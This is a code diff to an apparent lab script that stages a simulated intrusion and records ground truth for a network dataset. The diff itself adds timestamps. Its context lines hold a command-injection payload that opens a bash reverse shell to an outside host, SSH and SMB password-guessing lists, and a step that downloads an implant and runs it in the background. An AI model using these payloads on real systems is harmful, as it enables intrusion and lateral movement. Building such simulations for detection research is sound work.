@@ -6,6 +6,8 @@ machine, SMB with a guessed account, documents staged on an office machine; then
 leave in pieces over HTTPS, one small one through a DNS tunnel, beside a beacon over HTTPS.
 """
 
+import time
+
 from . import documents
 
 ADDRESS, NAME, PAGE = "203.0.113.66", "assets-cdn.example", "v1/state"
@@ -14,7 +16,7 @@ IMPLANT = {"WHAT": "beacon https", "ADDRESS": ADDRESS, "PORT": 443, "NAME": NAME
 SCANNER, DROP, DROP_NAME, TUNNEL, TUNNEL_NAME = ("203.0.113.45", "192.0.2.170", "media-upload.example",
                                                  "203.0.113.53", "t.ns-telemetry.example")
 VPN, FIRST, STAGE, SOURCE = "10.10.0.5", "10.20.0.27", "10.20.0.32", "10.30.0.10"
-GUESSED_AT = ("10.20.0.23", "10.20.0.27", "10.20.0.35", "10.20.0.38")
+GUESSED_AT = ("10.20.0.23", "10.20.0.27", "10.20.0.35")
 LOGINS = ("admin", "mcosta", "tmeyer")
 PASSWORDS = ("Welcome1", "Password123", "agency2026", "Spring2026", "Summer2026", "Launch2026")
 SMB_PASSWORDS = ("Mission2026", "Apollo2026!", "Welcome1", "Orbit2026!")
@@ -62,6 +64,7 @@ def operate(agent, book):
     book.tool("rec", "nmap from outside", "tcp", "-", VPN + ":22+80+443+8443", "nmap", "-sT", "-Pn", "-n", "-p",
               "22,80,443,8443", "-oG", "/mnt/truth/outside.gnmap", VPN)
     book.at(12)
+    since = time.time()
     exploit = '127.0.0.1; (setsid bash -c "bash >& /dev/tcp/%s/443 0>&1" &) >/dev/null 2>&1' % SCANNER
     book.tool("rec", "exploit of the portal", "tcp", "-", VPN + ":443", "curl", "-sk", "-m", "8", "-G",
               "--resolve", "vpn.agency.example:443:" + VPN,
@@ -69,7 +72,7 @@ def operate(agent, book):
     shell.accept(20)
     book.write({"flow": {"src": VPN, "dst": SCANNER, "dport": 443, "proto": "tcp", "what": "reverse shell"},
                 "sport": shell.peer.getpeername()[1]})
-    book.compromised("vpn", "command injection in the portal, reverse shell")
+    book.compromised("vpn", "command injection in the portal, reverse shell", since)
     shell.run("id; uname -s; ip -br addr; ip route")
 
     book.at(28)
@@ -93,8 +96,9 @@ def operate(agent, book):
     implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp 61053 10.50.0.53:53 dig +short -b '0.0.0.0#61053' {n} | tail -n 1)\n"
                "rec 'implant download' tcp - {a}:443 curl -sk --resolve {n}:443:$ip -o .u https://{n}/app\n"
                "setsid nohup bash .u %s >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS)
+    since = time.time()
     shell.run(hop(FIRST, login, "id; hostname; who; ls -la ~\n" + implant % "a1", password))
-    book.compromised("ws07", "SSH from vpn with a guessed password")
+    book.compromised("ws07", "SSH from vpn with a guessed password", since)
 
     book.at(150)
     guesses = "; ".join("rec 'smb guess' tcp - {s}:445 smbclient -s /mnt/smbclient.conf //{s}/share -U 'fileadm%{p}' -c ls"
@@ -105,14 +109,16 @@ def operate(agent, book):
     secret = SMB_PASSWORDS[-1]
 
     book.at(180)
+    since = time.time()
     shell.run(hop(FIRST, login, hop(STAGE, login, "id; hostname; df -h /tmp\n" + implant % "b2", password), password))
-    book.compromised("ws12", "SSH from ws07 with the same password")
+    book.compromised("ws12", "SSH from ws07 with the same password", since)
 
     book.at(205)
+    since = time.time()
     look = "id; ls -l /srv/share/missions; wc -c /srv/share/missions/*"
     shell.run(hop(FIRST, login, hop(STAGE, login, hop(SOURCE, "fileadm", look, secret, what="ssh to the file server"),
                                     password), password))
-    book.compromised("files-mc", "SSH from ws12 with the password found over SMB")
+    book.compromised("files-mc", "SSH from ws12 with the password found over SMB", since)
 
     book.at(222)
     names = [name for name, _ in documents.MISSION]
